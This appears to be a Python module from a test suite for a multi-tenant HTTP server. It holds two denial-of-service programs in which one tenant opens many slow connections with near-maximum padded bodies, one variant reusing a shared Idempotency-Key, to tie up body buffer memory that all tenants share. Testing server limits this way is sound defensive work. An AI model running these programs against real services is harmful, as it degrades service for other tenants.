"""Attacks by one tenant with a valid key on what all tenants share: room for bodies.

The interface is that of programs.py. Over HTTP/1.1 and clear text: nothing here depends on how bytes travel.
"""

from programs import MEG, Program, Target

HELD_S = 3.0  # what was taken is held so long
LEAST = 256   # bytes: less than that is not fought for


class Hoard:
    """Requests whose answers are long in coming, each with as large a body as is still taken."""

    def __init__(self, target: Target, *fields, most=2000):
        self.target, self.fields, self.most = target, fields, most
        self.kept, self.sizes, self.refused = [], [], 0  # connections, and the bodies that they have sent

    def __enter__(self):
        self.fill()
        return self

    def __exit__(self, *_):
        for connection in self.kept:
            connection.socket.close()

    def fill(self):
        path, body = self.target.hang
        padding = self.target.body_max - len(body)
        while padding > LEAST and len(self.kept) < self.most:
            if self.is_taken((path, body + b" " * padding)):
                self.sizes.append(len(body) + padding)
            else:
                self.refused += 1
                padding //= 2

    def is_taken(self, ask):
        """One that is refused is answered at once."""
        connection = self.target.open(self.target.http1(ask, *self.fields), alpn="http/1.1")
        if connection.read(0.03) is None:
            self.kept.append(connection)
            return True
        connection.socket.close()
        return False

    @property
    def bytes(self):
        return sum(self.sizes)

    def __str__(self):
        return f"{len(self.kept)} bodies of {self.bytes / MEG:.1f} MB held, {self.refused} refused"


def hoarded_bodies(target):
    """As many requests in flight as there is room for their bodies."""
    with Hoard(target) as hoard:
        hoard.kept[0].read_for(HELD_S)
        return str(hoard)


def hoarded_by_copies(target):
    """One request, and copies of it that wait: a plan with `concurrent: 1` permits as many."""
    with Hoard(target, "Idempotency-Key: the-same") as hoard:
        hoard.kept[0].read_for(HELD_S)
        return str(hoard)


HELD = {"held_bytes": "24MiB"}  # what takes a minute with the default, in a second
PROGRAMS = [
    Program("hoarded_bodies", hoarded_bodies, "held", ways=("clear",), limits=HELD),
    Program("hoarded_by_copies", hoarded_by_copies, "held", ways=("clear",), limits=HELD),
]
BY_NAME = {program.name: program for program in PROGRAMS}
